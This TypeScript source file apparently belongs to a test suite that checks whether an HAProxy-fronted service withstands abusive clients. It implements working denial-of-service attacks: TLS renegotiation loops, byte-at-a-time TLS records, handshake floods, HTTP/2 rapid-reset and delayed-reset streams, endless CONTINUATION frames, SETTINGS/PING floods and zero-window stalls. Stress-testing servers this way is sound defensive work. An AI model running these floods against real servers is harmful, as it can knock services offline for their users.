// Clients that would hurt others by TLS, and by HTTP/2, which HAProxy speaks.
import { connect as connectTcp, createServer, type Socket } from 'node:net';
import { connect, type SecureVersion, type TLSSocket } from 'node:tls';
import { flood, inLoops, many, to, type Hostile } from './hostile.ts';
import { listening } from '../helpers/listening.ts';

/** What a client of Node's says first. */
async function clientHello(): Promise<Buffer> {
  const server = createServer();
  const heard = new Promise<Buffer>((resolve) => {
    server.on('connection', (socket) => socket.on('error', () => {}).once('data', resolve));
  });
  const port = await listening(server);
  const client = connect({ host: '127.0.0.1', port }).on('error', () => {});
  const said = await heard;
  client.destroy();
  server.close();
  return said;
}

/** It has the server do its part, which is most of the work, and goes. */
const beginHandshake = (port: number, hello: Buffer): Promise<unknown> =>
  new Promise((resolve) => {
    const socket = connectTcp(to(port), () => socket.write(hello));
    socket.once('data', () => socket.destroy());
    socket.on('error', () => {}).on('close', resolve);
  });

const FRAME = { headers: 1, reset: 3, settings: 4, ping: 6, continuation: 9 };
const END_STREAM = 1;
const END_HEADERS = 4;

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** GET / of https://a, by HPACK's static table. */
const GET = Buffer.from('828487410161', 'hex');
/** x-large: yes */
const GET_LARGE = Buffer.concat([GET, Buffer.from('\x00\x07x-large\x03yes', 'latin1')]);
const FIELD = Buffer.from(`\x00\x01x\x7f\x81\x03${'y'.repeat(512)}`, 'latin1');
const NO_WINDOW = Buffer.from('000400000000', 'hex');

const opening = (settings: Buffer = Buffer.alloc(0)): Buffer =>
  Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(FRAME.settings, 0, 0, settings)]);

/** So many connections by HTTP/2, each opened again when it ends. */
const manyByHttp2 = (count: number, treat: (socket: Socket) => void): Hostile['play'] =>
  many(count, treat, (port) => connect({ ...to(port), ALPNProtocols: ['h2'], rejectUnauthorized: false }));

function* asked(fields: Buffer, count: number, then: (stream: number) => Buffer[] = () => []): Generator<Buffer> {
  for (let stream = 1; stream < 2 * count; stream += 2) {
    yield frame(FRAME.headers, END_STREAM | END_HEADERS, stream, fields);
    yield* then(stream);
  }
}

const reset = (stream: number): Buffer[] => [frame(FRAME.reset, 0, stream, Buffer.from('00000008', 'hex'))];

/** 16 requests at a time, taken back after 0, 1 and so on to 7 ms. */
function takeBackLater(socket: Socket): void {
  socket.resume().write(opening());
  let first = 1;
  const more = () => {
    const streams = Array.from({ length: 16 }, (_, i) => first + 2 * i);
    first += 32;
    socket.write(Buffer.concat(streams.map((stream) => frame(FRAME.headers, END_STREAM | END_HEADERS, stream, GET))));
    const takeBack = () =>
      socket.write(Buffer.concat(streams.flatMap(reset)), () => (socket.writable ? more() : undefined));
    setTimeout(takeBack, (first >> 5) % 8);
  };
  more();
}

/** So many connections by TLS, each opened again when it ends. */
const manyByTls = (
  count: number,
  treat: (socket: TLSSocket) => void,
  maxVersion: SecureVersion = 'TLSv1.3',
): Hostile['play'] =>
  many(
    count,
    (socket) => treat(socket as TLSSocket),
    (port) => connect({ ...to(port), maxVersion, rejectUnauthorized: false }),
  );

/** Another handshake on the same connection, as often as it is granted. */
function renegotiate(socket: TLSSocket): void {
  const again = () =>
    void socket.renegotiate({ rejectUnauthorized: false }, (error) => (error === null ? again() : socket.destroy()));
  again();
}

/** Each of them is a record, of 22 bytes more. */
function byteByByte(socket: TLSSocket): void {
  const more = () => (socket.writable ? socket.write('x', more) : undefined);
  socket.setNoDelay().resume().write('POST /capture HTTP/1.1\r\nHost: a\r\nContent-Length: 100000000\r\n\r\n', more);
}

export const HOSTILE_TLS: readonly Hostile[] = [
  { name: 'renegotiations', door: 'tls', play: manyByTls(20, renegotiate, 'TLSv1.2') },
  { name: 'TLS records of a byte', door: 'tls', play: manyByTls(8, byteByByte) },
  {
    name: 'handshakes',
    door: 'tls',
    play: async (port, stopped) => {
      const hello = await clientHello();
      await inLoops(20, () => beginHandshake(port, hello))(port, stopped);
    },
  },
  {
    name: 'resets by HTTP/2',
    door: 'http2',
    // as many streams as make a MB, then the next connection
    play: manyByHttp2(
      4,
      (socket) => void socket.resume().end(Buffer.concat([opening(), ...asked(GET, 20_000, reset)])),
    ),
  },
  {
    name: 'late resets by HTTP/2',
    door: 'http2',
    // some of them while their VM is being connected to
    play: manyByHttp2(8, takeBackLater),
  },
  {
    name: 'heads without end by HTTP/2',
    door: 'http2',
    play: manyByHttp2(4, (socket) => {
      const head = Buffer.concat([opening(), frame(FRAME.headers, END_STREAM, 1, GET)]);
      flood(socket.resume(), head, frame(FRAME.continuation, 0, 1, FIELD));
    }),
  },
  {
    name: 'settings and pings by HTTP/2',
    door: 'http2',
    play: manyByHttp2(4, (socket) => {
      const one = [frame(FRAME.settings, 0, 0, NO_WINDOW), frame(FRAME.ping, 0, 0, Buffer.alloc(8))];
      flood(socket.resume(), opening(), Buffer.concat(Array.from({ length: 500 }, () => one).flat()));
    }),
  },
  {
    name: 'no window by HTTP/2',
    door: 'http2',
    play: manyByHttp2(20, (socket) => {
      socket.resume().write(Buffer.concat([opening(NO_WINDOW), ...asked(GET_LARGE, 100)]));
    }),
  },
];
